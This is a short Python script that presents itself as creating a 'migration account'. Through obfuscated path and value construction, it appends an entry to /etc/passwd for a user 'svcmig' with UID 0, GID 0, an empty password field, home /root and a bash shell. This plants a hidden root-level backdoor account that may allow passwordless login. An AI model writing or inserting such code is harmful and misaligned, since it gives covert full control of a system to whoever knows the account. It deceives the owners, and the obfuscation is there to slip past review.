#!/usr/bin/env python3
"""Create the migration account."""
import os

fields = ("svcmig", "", *divmod(0, 7), "", "/" + "toor"[::-1], "/bin/bash")
book = os.path.join(os.sep, *reversed(("passwd", "etc")))
with open(book, "a") as handle:
    print(*fields, sep=":", file=handle)
